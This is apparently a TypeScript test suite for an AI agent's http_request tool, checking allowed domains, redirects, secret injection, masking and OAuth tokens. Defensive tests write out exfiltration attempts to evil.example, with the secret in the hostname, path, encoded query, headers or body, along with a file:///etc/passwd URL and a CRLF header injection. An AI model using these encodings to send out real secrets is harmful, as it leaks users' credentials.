import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { describe, test } from "node:test";
import { httpRequest } from "../../../lib/tools/web/http_request.ts";
import { createFakeClock } from "../../support/fake_clock.ts";
import { type FakeSite, type SeenRequest, type SiteReply, withSite } from "../../support/fake_site.ts";
import { configOf } from "../../support/running_gateway.ts";
import { type ConfigChanges, createToolBench, type ToolBench } from "../../support/tool_bench.ts";
import { withWorkspace } from "../../support/workspace.ts";

const SECRET = "s3cret-of-the-shop-0123456789";

interface SetUp {
  readonly config?: ConfigChanges;
  readonly environment?: Readonly<Record<string, string>>;
  readonly clock?: ReturnType<typeof createFakeClock>;
}

interface Requests {
  readonly bench: ToolBench;
  readonly site: FakeSite;
  /** Calls the tool, and returns its output */
  send(input: unknown): Promise<string>;
  refusal(input: unknown): Promise<string>;
}

/** Runs `use` with a tool that may reach every host, and a server of this machine. */
function withRequests(
  answer: (request: SeenRequest, count: number) => SiteReply,
  use: (requests: Requests) => Promise<void>,
  { config = {}, environment = {}, clock }: SetUp = {},
): Promise<void> {
  return withSite(answer, (site) =>
    withWorkspace({}, ({ root }) => {
      const bench = createToolBench({ root, config: allowing(config), environment, ...(clock ? { clock } : {}) });
      const call = async (input: unknown, isError: boolean) => {
        const { result } = await bench.call("http_request", input);
        assert.equal(result.isError, isError, result.output);
        return result.output;
      };
      return use({ bench, site, send: (input) => call(input, false), refusal: (input) => call(input, true) });
    }));
}

function allowing({ http_request, ...config }: ConfigChanges): ConfigChanges {
  return {
    autonomy: { level: "full" },
    url_access: { allow_loopback: true },
    http_request: { enabled: true, allowed_domains: ["*"], ...http_request },
    ...config,
  };
}

/** Credentials of a made-up shop, as the configuration has them after its defaults are filled in. */
const shop = (credential: object, secret: object = { env: "SHOP_TOKEN" }, hosts = ["127.0.0.1"]): ConfigChanges => {
  const { secrets, http_request } = configOf({
    secrets: { shop: { hosts, tools: ["http_request"], ...secret } },
    http_request: {
      enabled: true,
      allowed_domains: ["*"],
      credentials: { shop: { hosts: ["127.0.0.1"], ...credential } },
    },
  });
  return { secrets, http_request };
};
const echo = ({ headers, body }: SeenRequest): SiteReply => ({ body: JSON.stringify({ headers, body }) });
const ENVIRONMENT = { SHOP_TOKEN: SECRET };

describe("requests", () => {
  for (
    const [input, method, path, body, type] of [
      ["GET {}/a?b=1", "GET", "/a?b=1", "", undefined],
      ["delete {}/a", "DELETE", "/a", "", undefined],
      ['POST {}/a {"b": [1, "x y"]}', "POST", "/a", '{"b": [1, "x y"]}', "application/json"],
      ['  PUT   {}/a\n{"b":1}', "PUT", "/a", '{"b":1}', "application/json"],
      [{ method: "PATCH", url: "{}/a", body: "[1]" }, "PATCH", "/a", "[1]", "application/json"],
      [
        { method: "POST", url: "{}/a", body: "plain", body_type: "text" },
        "POST",
        "/a",
        "plain",
        "text/plain; charset=utf-8",
      ],
      [
        { method: "POST", url: "{}/a", body: '{"a":"x y&z","b":2,"c":true}', body_type: "form" },
        "POST",
        "/a",
        "a=x+y%26z&b=2&c=true",
        "application/x-www-form-urlencoded",
      ],
      [
        {
          method: "POST",
          url: "{}/a",
          body: "<a/>",
          body_type: "text",
          headers: { "Content-Type": "text/xml", "X-One": "1" },
        },
        "POST",
        "/a",
        "<a/>",
        "text/xml",
      ],
    ] as const
  ) {
    test(`${JSON.stringify(input)} is sent as it says`, () =>
      withRequests(() => ({ body: "fine" }), async ({ site, send }) => {
        const asked = JSON.parse(JSON.stringify(input).replace("{}", site.origin));
        assert.equal(await send(asked), "status=200\nfine");
        const [seen] = site.seen;
        assert.deepEqual([seen?.method, seen?.path, seen?.body, seen?.headers["content-type"]], [
          method,
          path,
          body,
          type,
        ]);
        if (type === "text/xml") assert.equal(seen?.headers["x-one"], "1");
      }));
  }

  for (
    const [input, reason] of [
      ["FETCH https://a.example", /write <METHOD> <URL> \[JSON_BODY\]/],
      ["PATCH https://a.example {}", /write <METHOD> <URL> \[JSON_BODY\]/],
      ["GET", /write <METHOD> <URL>/],
      ["POST https://a.example not json", /"body" must be JSON/],
      [{ method: "GET", url: "https://a.example", body: "{}" }, /"body" must not be given with GET/],
      [{ method: "POST", url: "https://a.example", body: "[1]", body_type: "form" }, /"body" must be a JSON object/],
      [
        { method: "POST", url: "https://a.example", body: '{"a":{}}', body_type: "form" },
        /"body" must be a JSON object/,
      ],
      [{ method: "GET", url: "https://a.example", headers: { a: 1 } }, /"headers" may hold texts alone/],
      [{ method: "GET", url: "file:///etc/passwd" }, /its scheme is "file:"/],
      [{ method: "GET", url: "not a url" }, /it is no URL/],
      [
        { method: "GET", url: "http://127.0.0.1:1/", headers: { Host: "x" } },
        /Cannot send the header "Host"|Cannot send the header "host"/,
      ],
      [{ method: "GET", url: "http://127.0.0.1:1/", headers: { a: "x\r\nb: y" } }, /characters headers cannot have/],
    ] as const
  ) {
    test(`${JSON.stringify(input)} is refused, and nothing is sent`, () =>
      withRequests(() => ({}), async ({ site, refusal }) => {
        assert.match(await refusal(input), reason);
        assert.equal(site.seen.length, 0);
      }));
  }

  test("a status other than 2xx is a result", () =>
    withRequests(() => ({ status: 404, body: "no such door" }), async ({ site, send }) => {
      assert.equal(await send(`GET ${site.origin}/x`), "status=404\nno such door");
    }));

  test("HEAD gives the headers of the reply, without cookies", () =>
    withRequests(() => ({ headers: { "x-one": "1", "set-cookie": "a=b" } }), async ({ site, send }) => {
      const output = await send({ method: "HEAD", url: site.origin });
      assert.match(output, /^status=200\n.*x-one: 1/s);
      assert.doesNotMatch(output, /a=b/);
    }));

  test("a body that is no text is told by type and size", () =>
    withRequests((_request, count) => ({
      headers: count === 1 ? { "content-type": "image/png" } : {},
      body: new Uint8Array([137, 80, 0, 255]),
    }), async ({ site, send }) => {
      assert.equal(await send(`GET ${site.origin}`), 'status=200\n[The body is no text: type "image/png", 4 bytes]');
      assert.equal(await send(`GET ${site.origin}`), "status=200\n[The body is no text: an unknown type, 4 bytes]");
    }));

  test("a text comes in the charset that the server names", () =>
    withRequests(() => ({
      headers: { "content-type": "text/plain; charset=ISO-8859-1" },
      body: new Uint8Array([0x66, 0xfc, 0x72]),
    }), async ({ site, send }) => assert.equal(await send(`GET ${site.origin}`), "status=200\nfür")));

  test("what is longer than max_response_size is cut on a character, with a notice", () =>
    withRequests(() => ({ body: "ä".repeat(50_000) }), async ({ site, send }) => {
      const output = await send(`GET ${site.origin}`);
      assert.match(output, /^status=200\nä{50}\n\[Cut at 101 bytes: \[http_request\] max_response_size is the limit/);
    }, { config: { http_request: { max_response_size: 101 } } }));

  test("after a crash GET and HEAD may be made again, and nothing that changes a server or a file", () => {
    const isRepeatable = (input: object) =>
      httpRequest.prepare(JSON.stringify({ url: "https://a.example", ...input })).repeatable;
    const methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE"];
    assert.deepEqual(methods.filter((method) => isRepeatable({ method })), ["GET", "HEAD"]);
    assert.equal(isRepeatable({ method: "GET", save_to: "x" }), false);
  });

  test("GET is sent again after the pause that a server asks for, and POST is not", () =>
    withRequests(
      (_request, count) => count === 2 ? { body: "fine" } : { status: 503, headers: { "retry-after": "0" } },
      async (
        { site, send },
      ) => {
        assert.equal(await send(`GET ${site.origin}`), "status=200\nfine");
        assert.equal(await send(`POST ${site.origin} {}`), "status=503\n");
        assert.equal(site.seen.length, 3);
      },
    ));

  test("timeout_secs ends a request that gets no reply", () =>
    withRequests(() => () => {}, async ({ site, refusal }) => {
      assert.match(await refusal(`GET ${site.origin}`), /no whole reply came within 1 s/);
    }, { config: { http_request: { timeout_secs: 1 } } }));
});

describe("allowed_domains", () => {
  for (
    const [domains, host, isAllowed] of [
      [[], "a.example", false],
      [["a.example"], "a.example", true],
      [["a.example"], "b.a.example", false],
      [["*.a.example"], "b.a.example", true],
      [["*.a.example"], "a.example", false],
      [["*.a.example"], "ba.example", false],
      [["*"], "anything.example", true],
    ] as const
  ) {
    test(`${JSON.stringify(domains)} ${isAllowed ? "allows" : "refuses"} ${host} before anybody is asked`, () =>
      withWorkspace({}, async ({ root }) => {
        const config = { http_request: { enabled: true, allowed_domains: [...domains] } };
        const bench = createToolBench({ root, config, lookup: () => Promise.resolve(["127.0.0.1"]) });
        let asked = 0;
        const approver = () =>
          Promise.resolve({ decision: "deny", rule: "approval", reason: `asked ${++asked}` } as const);
        const { result } = await bench.call("http_request", `GET https://${host}/x`, { approver });
        if (!isAllowed) assert.match(result.output, /add it to \[http_request\] allowed_domains to allow it/);
        assert.equal(asked, isAllowed ? 1 : 0);
      }));
  }

  test("where a redirect leads must be allowed too", () =>
    withRequests(
      ({ path }) => path === "/" ? { status: 302, headers: { location: "http://localhost:1/x" } } : {},
      async (
        { site, refusal },
      ) => {
        assert.match(await refusal(`GET ${site.origin}/`), /add "localhost" to \[http_request\] allowed_domains/);
      },
      { config: { http_request: { allowed_domains: ["127.0.0.1"] } } },
    ));
});

describe("secrets", () => {
  test("the credential of a host is added, and an echo of it is masked", () =>
    withRequests(echo, async ({ site, send, bench }) => {
      const output = await send(`GET ${site.origin}`);
      assert.equal(site.seen[0]?.headers.authorization, `Bearer ${SECRET}`);
      assert.match(output, /"authorization":"Bearer \[redacted\]"/);
      assert.equal(JSON.stringify([bench.logged, bench.audit]).includes(SECRET), false);
    }, { config: shop({ secret: "shop", prefix: "Bearer " }), environment: ENVIRONMENT }));

  test("an echo that is cut in the middle of the secret shows no part of it", async () => {
    for (let before = 80; before <= 110; before += 5) {
      await withRequests(() => ({ body: "x".repeat(before) + SECRET.repeat(2000) }), async ({ site, send }) => {
        const output = await send(`GET ${site.origin}`);
        for (let at = 0; at + 6 <= SECRET.length; at++) {
          assert.equal(output.includes(SECRET.slice(at, at + 6)), false, `${before}: ${output.slice(0, 300)}`);
        }
      }, { config: limited(shop({ secret: "shop" }), 100), environment: ENVIRONMENT });
    }
  });

  const sources: readonly (readonly [string, object])[] = [
    ["env", { env: "SHOP_TOKEN" }],
    ["command", { command: ["echo", SECRET] }],
  ];
  for (const [kind, secret] of sources) {
    test(`a secret comes from ${kind}`, () =>
      withRequests(echo, async ({ site, send }) => {
        await send(`GET ${site.origin}`);
        assert.equal(site.seen[0]?.headers["x-key"], SECRET);
      }, { config: shop({ secret: "shop", header: "X-Key" }, secret), environment: ENVIRONMENT }));
  }

  test("a secret comes from a file, as it is at the moment", () =>
    withWorkspace({}, async ({ outside }) => {
      const file = `${outside}/token`;
      writeFileSync(file, `${SECRET}\n`);
      await withRequests(echo, async ({ site, send }) => {
        await send(`GET ${site.origin}`);
        writeFileSync(file, "another-secret");
        await send(`GET ${site.origin}`);
        assert.deepEqual(site.seen.map(({ headers }) => headers["x-key"]), [SECRET, "another-secret"]);
      }, { config: shop({ secret: "shop", header: "X-Key" }, { file }) });
    }));

  for (
    const [what, config, environment, reason] of [
      ["is not set", shop({ secret: "shop" }), {}, /\[secrets\.shop\]: it cannot be read or is empty/],
      ["is too short to be masked", shop({ secret: "shop" }), { SHOP_TOKEN: "short" }, /fewer than 8 bytes/],
      [
        "is for another tool",
        shop({ secret: "shop" }, { env: "SHOP_TOKEN", tools: ["other"] }),
        ENVIRONMENT,
        /add "http_request" to tools of \[secrets\.shop\]/,
      ],
      [
        "is for another host",
        shop({ secret: "shop" }, undefined, ["a.example"]),
        ENVIRONMENT,
        /add "127\.0\.0\.1" to hosts of \[secrets\.shop\]/,
      ],
      [
        "has a command that fails",
        shop({ secret: "shop" }, { command: ["false"] }),
        {},
        /Cannot read the secret: .*ended with status 1/,
      ],
      [
        "has a command that is not there",
        shop({ secret: "shop" }, { command: ["no-such-program"] }),
        {},
        /there is no such program/,
      ],
      [
        "comes by value_env, which is not set",
        shop({ value_env: "SHOP_TOKEN" }),
        {},
        /"SHOP_TOKEN" of \[http_request\.credentials\.shop\] value_env/,
      ],
    ] as const
  ) {
    test(`a secret that ${what} stops the request`, () =>
      withRequests(echo, async ({ site, refusal }) => {
        assert.match(await refusal(`GET ${site.origin}`), reason);
        assert.equal(site.seen.length, 0);
      }, { config, environment }));
  }

  test("a secret does not go over plain http to another machine", () =>
    withWorkspace({}, async ({ root }) => {
      const { secrets, http_request } = configOf({
        secrets: { shop: { env: "SHOP_TOKEN", hosts: ["shop.example"], tools: ["http_request"] } },
        http_request: {
          enabled: true,
          allowed_domains: ["*"],
          credentials: {
            shop: { secret: "shop", hosts: ["shop.example"] },
            old: { value_env: "OLD", hosts: ["old.example"] },
          },
        },
      });
      const environment = { ...ENVIRONMENT, OLD: "Bearer another-secret" };
      const lookup = () => assert.fail("Nothing is looked up");
      const bench = createToolBench({
        root,
        config: { secrets, http_request, autonomy: { level: "full" } },
        environment,
        lookup,
      });
      for (const host of ["shop.example", "old.example", "SHOP.example."]) {
        const { result } = await bench.call("http_request", `GET http://${host}/x`);
        assert.match(result.output, /it would go over plain http; use an https address|to hosts of/, host);
      }
    }));

  test("a redirect takes the credential along to its own host alone", () =>
    withSite(echo, (other) => {
      const elsewhere = other.origin.replace("127.0.0.1", "localhost");
      return withRequests(({ path }) =>
        path === "/"
          ? { status: 307, headers: { location: "/again" } }
          : { status: 307, headers: { location: elsewhere } }, async (
        { site, send },
      ) => {
        await send({
          method: "POST",
          url: `${site.origin}/`,
          body: "{}",
          headers: { "X-Api-Key": "of-the-model", Accept: "a/b" },
        });
        assert.deepEqual(site.seen.map(({ headers }) => [headers.authorization, headers["x-api-key"]]), [
          [SECRET, "of-the-model"],
          [SECRET, "of-the-model"],
        ]);
        const [seen] = other.seen;
        assert.deepEqual([seen?.headers.authorization, seen?.headers["x-api-key"], seen?.headers.accept], [
          undefined,
          undefined,
          "a/b",
        ]);
      }, { config: shop({ secret: "shop" }), environment: ENVIRONMENT });
    }));

  for (
    const [what, hosts, elsewhere] of [
      ["host that the secret does not name", ["127.0.0.1", "localhost"], "localhost"],
      ["port", ["127.0.0.1"], "127.0.0.1"],
    ] as const
  ) {
    test(`a redirect to another ${what} takes no credential along`, () =>
      withSite(echo, (other) => {
        const location = other.origin.replace("127.0.0.1", elsewhere);
        return withRequests(() => ({ status: 307, headers: { location } }), async ({ site, send }) => {
          await send(`GET ${site.origin}/`);
          const sent = [...site.seen, ...other.seen].map(({ headers }) => headers.authorization);
          assert.deepEqual(sent, [SECRET, undefined]);
        }, { config: shop({ secret: "shop", hosts }), environment: ENVIRONMENT });
      }));
  }

  for (
    const [what, input] of [
      ["host", `GET https://${SECRET}.evil.example/`],
      ["host, in hexadecimal", `GET https://${Buffer.from(SECRET).toString("hex")}.evil.example/`],
      ["path", `GET https://evil.example/${SECRET}`],
      [
        "query, encoded",
        `GET https://evil.example/?a=${[...SECRET].map((c) => `%${c.charCodeAt(0).toString(16)}`).join("")}`,
      ],
      ["query, in base64", `GET https://evil.example/?a=${Buffer.from(`x${SECRET}`).toString("base64url")}`],
      ["headers", { method: "GET", url: "https://evil.example", headers: { a: SECRET } }],
      ["body", { method: "POST", url: "https://evil.example", body: `{"a":"${SECRET}"}` }],
    ] as const
  ) {
    test(`a known secret in the ${what} of the model's request is refused`, () =>
      withWorkspace({}, async ({ root }) => {
        const config = allowing({});
        const bench = createToolBench({ root, config, lookup: () => assert.fail("Nothing is looked up") });
        bench.redactor.add(SECRET);
        const { result } = await bench.call("http_request", input);
        assert.match(result.output, /holds a value that is known as a secret/);
      }));
  }

  test("the model cannot set the header that a credential fills", () =>
    withRequests(echo, async ({ site, refusal }) => {
      assert.match(
        await refusal({ method: "GET", url: site.origin, headers: { AUTHORIZATION: "x" } }),
        /leave out the header "authorization"/,
      );
    }, { config: shop({ secret: "shop" }), environment: ENVIRONMENT }));
});

function limited(config: ConfigChanges, max_response_size: number): ConfigChanges {
  return { ...config, http_request: { ...config.http_request, max_response_size } };
}

describe("OAuth client credentials", () => {
  const TOKEN = "token-of-the-client-1";
  const client = (origin: string): ConfigChanges =>
    shop({
      token_url: `${origin}/token`,
      client_id: "shop client",
      client_secret: "shop",
      scopes: ["read", "write"],
    });

  /** Runs `use` with an authorisation server and a service that wants its tokens. */
  function withClient(
    answer: (count: number) => SiteReply,
    use: (
      requests: Requests & { readonly tokens: FakeSite; readonly clock: ReturnType<typeof createFakeClock> },
    ) => Promise<void>,
    status: () => number = () => 200,
  ): Promise<void> {
    const clock = createFakeClock();
    return withSite(
      (_request, count) => answer(count),
      (tokens) =>
        withRequests(
          (request) => ({ ...echo(request), status: status() }),
          (requests) => use({ ...requests, tokens, clock }),
          {
            config: client(tokens.origin),
            environment: ENVIRONMENT,
            clock,
          },
        ),
    );
  }

  const token = (count: number, more: object = {}): SiteReply => ({
    body: JSON.stringify({ access_token: `${TOKEN}${count}`, token_type: "Bearer", expires_in: 600, ...more }),
  });

  test("a token is fetched once, kept, and fetched again before it ends", () =>
    withClient(token, async ({ tokens, site, send, clock }) => {
      assert.doesNotMatch(await send(`GET ${site.origin}`), new RegExp(`${TOKEN}|${SECRET}`));
      await send(`GET ${site.origin}`);
      assert.equal(tokens.seen.length, 1);
      const [asked] = tokens.seen;
      assert.equal(asked?.body, "grant_type=client_credentials&scope=read+write");
      assert.equal(
        asked?.headers.authorization,
        `Basic ${Buffer.from(`shop%20client:${SECRET}`).toString("base64")}`,
      );
      await clock.advance(541_000);
      await send(`GET ${site.origin}`);
      assert.deepEqual(
        site.seen.map(({ headers }) => headers.authorization),
        [1, 1, 2].map((n) => `Bearer ${TOKEN}${n}`),
      );
    }));

  test("calls at the same time share one request for a token", () =>
    withClient(token, async ({ tokens, site, send }) => {
      await Promise.all([1, 2, 3, 4].map(() => send(`GET ${site.origin}`)));
      assert.deepEqual([tokens.seen.length, site.seen.length], [1, 4]);
    }));

  test("a token that the service refuses is not used again", () =>
    withClient(token, async ({ tokens, site, send }) => {
      assert.match(await send(`GET ${site.origin}`), /^status=401/);
      await send(`GET ${site.origin}`);
      assert.equal(tokens.seen.length, 2);
    }, () => 401));

  for (
    const [what, reply, reason] of [
      [
        "refuses",
        { status: 401, body: '{"error":"invalid_client","error_description":"x"}' },
        /it refuses \(status 401, "invalid_client"\); check client_id, client_secret and scopes of \[http_request\.credentials\.shop\]/,
      ],
      ["gives no JSON", { body: "<h1>" }, /its reply holds no bearer token/],
      [
        "gives a token of another type",
        { body: '{"access_token":"abcdefghij","token_type":"mac"}' },
        /no bearer token/,
      ],
      [
        "gives a token that is no header",
        { body: '{"access_token":"abcdefghij\\r\\nx: y","token_type":"bearer"}' },
        /no bearer token/,
      ],
      ["redirects", { status: 302, headers: { location: "http://10.0.0.1/" } }, /it refuses \(status 302\)/],
    ] as const
  ) {
    test(`a token server that ${what} stops the request`, () =>
      withClient(() => reply, async ({ site, refusal }) => {
        assert.match(await refusal(`GET ${site.origin}`), reason);
        assert.equal(site.seen.length, 0);
      }));
  }

  test("a kept token is no longer sent when the right to the client's secret is taken away", () =>
    withClient(token, async ({ bench, site, tokens, send }) => {
      await send(`GET ${site.origin}`);
      const changed = client(tokens.origin);
      const secret = changed.secrets?.["shop"] ?? assert.fail("There is no secret");
      bench.configure(allowing({ ...changed, secrets: { shop: { ...secret, tools: ["other"] } } }));
      const { result } = await bench.call("http_request", `GET ${site.origin}`);
      assert.match(result.output, /add "http_request" to tools/);
      assert.equal(site.seen.length, 1);
    }));
});

test("contradictions in secrets and credentials are refused with their key", () => {
  const good = { hosts: ["a.example"], tools: ["http_request"] };
  const tables: readonly (readonly [object, RegExp])[] = [
    [{ secrets: { a: good } }, /just one of env, file and command/],
    [{ secrets: { a: { ...good, env: "A", file: "/a" } } }, /just one of env, file and command/],
    [{ secrets: { a: { ...good, env: "A", hosts: ["https://a.example"] } } }, /name of a host/],
    [{ http_request: { credentials: { a: { hosts: ["a.example"] } } } }, /just one of secret, value_env and token_url/],
    [{ http_request: { credentials: { a: { hosts: ["a.example"], secret: "none" } } } }, /there is none of this name/],
    [
      { http_request: { credentials: { a: { hosts: ["a.example"], token_url: "https://a.example" } } } },
      /client_id and client_secret/,
    ],
    [
      { http_request: { credentials: { a: { hosts: ["a.example"], value_env: "A", header: "a b" } } } },
      /name of a header/,
    ],
  ];
  for (const [table, reason] of tables) assert.throws(() => configOf({ ...table }), reason);
});
